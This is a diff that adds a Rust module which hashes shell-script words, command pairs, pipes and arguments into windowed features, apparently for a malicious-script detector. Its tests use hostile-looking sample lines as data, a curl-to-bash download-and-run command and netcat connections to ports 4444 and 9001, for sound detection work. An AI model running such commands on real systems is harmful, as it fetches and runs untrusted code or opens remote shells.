@@ -1,0 +1,252 @@
+//! Features of a script: hashed facts about its words, in windows.
+//!
+//! A feature is a number below [`BUCKETS`]. A window is the set of features of at most [`WINDOW_WORDS`] words in
+//! a row; a script is judged by its worst window, so that nothing can be hidden behind padding. The trainer
+//! computes features with this very code.
+
+use std::ops::Range;
+
+use super::{
+    normal::Normal,
+    words::{self, Joint, Word},
+};
+
+/// Size of the hash space; the embedding table of the model has as many rows.
+pub const BUCKETS: u32 = 1 << 18;
+/// Words in one window.
+pub const WINDOW_WORDS: usize = 384;
+/// Words from one window's start to the next one's.
+pub const STRIDE_WORDS: usize = 256;
+/// Arguments of one command that are paired with it.
+const PAIRED_ARGUMENTS: u32 = 24;
+
+/// A feature and the place in the script that it stands for.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub struct Feature {
+    /// Below [`BUCKETS`].
+    pub id: u32,
+    /// Byte position in the script.
+    pub at: u32,
+}
+
+/// Computes features. Buffers are kept from script to script.
+#[derive(Default)]
+pub struct Extractor {
+    normal: Normal,
+    words: Vec<Word>,
+    features: Vec<Feature>,
+    /// For each word, where its features begin in `features`.
+    of_word: Vec<u32>,
+    windows: Vec<Range<usize>>,
+}
+
+impl Extractor {
+    /// Computes a script's features; [`Self::windows`] and [`Self::window`] give them.
+    pub fn extract(&mut self, script: &[u8]) {
+        self.normal.form(script);
+        words::cut(&self.normal.text, &mut self.words);
+        self.features.clear();
+        self.of_word.clear();
+        let mut context = Context::default();
+        for i in 0..self.words.len() {
+            self.of_word.push(self.features.len() as u32);
+            context.word(&self.normal, self.words[i], &mut self.features);
+        }
+        self.of_word.push(self.features.len() as u32);
+        self.windows.clear();
+        let mut start = 0;
+        loop {
+            let end = (start + WINDOW_WORDS).min(self.words.len());
+            self.windows.push(self.of_word[start] as usize..self.of_word[end] as usize);
+            if end == self.words.len() {
+                break;
+            }
+            start += STRIDE_WORDS;
+        }
+    }
+
+    /// How many windows the script has; an empty script has one, without features.
+    pub fn windows(&self) -> usize {
+        self.windows.len()
+    }
+
+    /// The features of a window, in the script's order, with repetitions.
+    pub fn window(&self, index: usize) -> &[Feature] {
+        &self.features[self.windows[index].clone()]
+    }
+
+    /// Words of the script, decoded layers included.
+    pub fn word_count(&self) -> usize {
+        self.words.len()
+    }
+}
+
+/// A set of features, to leave each out but once.
+pub struct FeatureSet {
+    bits: Vec<u64>,
+}
+
+impl Default for FeatureSet {
+    fn default() -> Self {
+        Self { bits: vec![0; BUCKETS as usize / 64] }
+    }
+}
+
+impl FeatureSet {
+    /// Puts the distinct features into `ids`, in order of first appearance, leaving out those `without` refuses.
+    pub fn distinct(&mut self, features: &[Feature], keep: impl Fn(&Feature) -> bool, ids: &mut Vec<i64>) {
+        ids.clear();
+        for feature in features.iter().filter(|f| keep(f)) {
+            let (word, bit) = (feature.id as usize / 64, 1u64 << (feature.id % 64));
+            if self.bits[word] & bit == 0 {
+                self.bits[word] |= bit;
+                ids.push(i64::from(feature.id));
+            }
+        }
+        for id in ids.iter() {
+            self.bits[*id as usize / 64] = 0;
+        }
+    }
+}
+
+/// What came before the word at hand.
+#[derive(Default)]
+struct Context {
+    /// Canonical forms of the two words before, 0 where a layer began.
+    before: [u64; 2],
+    /// The statement's command, 0 until it is known.
+    command: u64,
+    /// The command of the statement before.
+    last_command: u64,
+    /// The command whose output is piped into this statement.
+    piped_from: u64,
+    /// Arguments of the command so far.
+    arguments: u32,
+    /// Within a decoded layer.
+    decoded: bool,
+}
+
+/// Tags that keep kinds of features apart.
+#[derive(Clone, Copy)]
+enum Kind {
+    Word = 1,
+    Pair,
+    Triple,
+    Command,
+    Argument,
+    Pipe,
+    Sequence,
+    Operator,
+    Layer,
+}
+
+impl Context {
+    fn word(&mut self, normal: &Normal, word: Word, out: &mut Vec<Feature>) {
+        let bytes = &normal.text[word.start as usize..word.end as usize];
+        let at = normal.origin[word.start as usize];
+        let mut emit = |kind: Kind, a: u64, b: u64| out.push(Feature { id: bucket(kind, a, b), at });
+        match word.joint {
+            Joint::Space => {}
+            Joint::Pipe => {
+                self.piped_from = self.command;
+                self.end_statement();
+            }
+            Joint::Statement => {
+                self.piped_from = 0;
+                self.end_statement();
+            }
+            Joint::Layer => {
+                self.piped_from = 0;
+                self.end_statement();
+                self.before = [0; 2];
+                if !self.decoded {
+                    emit(Kind::Layer, 0, 0);
+                }
+                self.decoded = true;
+            }
+        }
+        let canonical = words::canonical(bytes);
+        if word.operator != 0 {
+            emit(Kind::Operator, word.operator, canonical);
+        }
+        words::parts(bytes, |part| emit(Kind::Word, part, 0));
+        let [before, before_that] = self.before;
+        let joined = canonical ^ word.operator.rotate_left(17);
+        if before != 0 {
+            emit(Kind::Pair, before, joined);
+            if before_that != 0 {
+                emit(Kind::Triple, before_that.rotate_left(9) ^ before, joined);
+            }
+        }
+        if self.command == 0 {
+            if !words::is_wrapper(bytes) {
+                let base = bytes.rsplit(|b| *b == b'/').next().unwrap_or_default();
+                self.command = words::canonical(base).max(1);
+                self.arguments = 0;
+                emit(Kind::Command, self.command, 0);
+                if self.piped_from != 0 {
+                    emit(Kind::Pipe, self.piped_from, self.command);
+                }
+                if self.last_command != 0 {
+                    emit(Kind::Sequence, self.last_command, self.command);
+                }
+            }
+        } else if self.arguments < PAIRED_ARGUMENTS {
+            self.arguments += 1;
+            let command = self.command;
+            words::parts(bytes, |part| emit(Kind::Argument, command, part));
+        }
+        self.before = [canonical, before];
+    }
+
+    fn end_statement(&mut self) {
+        if self.command != 0 {
+            self.last_command = self.command;
+        }
+        self.command = 0;
+    }
+}
+
+fn bucket(kind: Kind, a: u64, b: u64) -> u32 {
+    // The finalizer of MurmurHash3 spreads the bits.
+    let mut h = a ^ b.rotate_left(32) ^ (kind as u64).wrapping_mul(0x9e37_79b9_7f4a_7c15);
+    h = (h ^ (h >> 33)).wrapping_mul(0xff51_afd7_ed55_8ccd);
+    h = (h ^ (h >> 33)).wrapping_mul(0xc4ce_b9fe_1a85_ec53);
+    h ^= h >> 33;
+    (h & u64::from(BUCKETS - 1)) as u32
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ids(script: &str) -> Vec<i64> {
+        let mut extractor = Extractor::default();
+        extractor.extract(script.as_bytes());
+        let mut ids = Vec::new();
+        FeatureSet::default().distinct(extractor.window(0), |_| true, &mut ids);
+        ids
+    }
+
+    #[test]
+    fn addresses_and_own_names_do_not_matter() {
+        assert_eq!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://198.51.100.9/bb.sh | bash"));
+        assert_eq!(ids("nc $host 4444"), ids("nc $target 9001"));
+        assert_ne!(ids("curl http://192.0.2.7/a.sh | bash"), ids("curl http://192.0.2.7/a.sh > bash"));
+    }
+
+    #[test]
+    fn long_scripts_have_windows_that_reach_the_end() {
+        let mut extractor = Extractor::default();
+        extractor.extract("echo word\n".repeat(2000).as_bytes());
+        assert_eq!(extractor.word_count(), 4000);
+        let last = extractor.window(extractor.windows() - 1).last().unwrap().at;
+        assert_eq!(last, 10 * 1999 + 5);
+    }
+
+    #[test]
+    fn nothing_is_a_window_too() {
+        assert!(ids("").is_empty());
+        assert!(ids("# only a comment").is_empty());
+    }
+}
